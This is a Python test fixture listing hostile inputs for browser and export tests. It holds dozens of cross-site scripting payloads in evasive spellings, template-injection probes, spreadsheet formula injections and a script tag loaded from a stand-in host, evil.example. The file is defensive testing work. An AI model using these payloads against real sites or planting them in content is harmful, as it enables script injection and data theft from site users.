"""Hostile text: what an attacker types in a name, a comune, a course or a question.

Every payload that could run sets ``window.__xss`` or opens a dialog, so a browser test
can tell whether anything ran. Formula prefixes (= + - @) are here too, for the exports.
"""

from __future__ import annotations

XSS_CORPUS: list[str] = [
    # script elements, however written
    "<script>window.__xss=1;alert('script')</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script>/*</script><script>window.__xss=1//*/</script>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<!--<script>window.__xss=1</script>-->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<template><script>window.__xss=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    # event handlers
    "<img src=x onerror=\"window.__xss=1;alert('img')\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=window.__xss=1>",
    '<img src="x" onerror="&#119;indow.__xss=1">',
    "<body onload=window.__xss=1>",
    "<input onfocus=window.__xss=1 autofocus>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>m</marquee>",
    "<x onclick=window.__xss=1>clic</x>",
    "<a onmouseover=window.__xss=1>passa</a>",
    '" onmouseover="window.__xss=1',
    "' autofocus onfocus='window.__xss=1",
    # SVG and MathML
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x=20 y=20>svg</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<math href="javascript:window.__xss=1">math</math>',
    # javascript:, data:, vbscript: URLs in many spellings
    '<a href="javascript:window.__xss=1">js</a>',
    '<a href="JaVaScRiPt:window.__xss=1">maiuscole</a>',
    '<a href=" javascript:window.__xss=1">spazio</a>',
    '<a href="java\tscript:window.__xss=1">tab</a>',
    '<a href="java&#x09;script:window.__xss=1">tab codificato</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=1">hex</a>',
    '<a href="javascript&colon;window.__xss=1">colon</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="VBScript:msgbox(1)">VBScript</a>',
    "[markdown](javascript:window.__xss=1)",
    "[markdown data](data:text/html,<script>alert(1)</script>)",
    "![immagine](javascript:window.__xss=1)",
    '<img src="javascript:window.__xss=1">',
    # frames, objects, embeds, forms
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="javascript:window.__xss=1">',
    '<form action="javascript:window.__xss=1"><button>vai</button></form>',
    '<button formaction="javascript:window.__xss=1">bottone</button>',
    # style, expression, meta refresh, base
    '<div style="background:url(javascript:window.__xss=1)">stile</div>',
    '<div style="width: expression(window.__xss=1)">expression</div>',
    "<style>*{background:url('javascript:window.__xss=1')}</style>",
    '<link rel=stylesheet href="javascript:window.__xss=1">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    # template injection
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in range(3) %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    # spreadsheet formulas and invisible characters
    '=HYPERLINK("http://evil.example","clic")',
    "+39 06 1234567",
    "-2+3",
    "@SUM(A1:A2)",
    "\u202e<script>window.__xss=1</script>",
]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
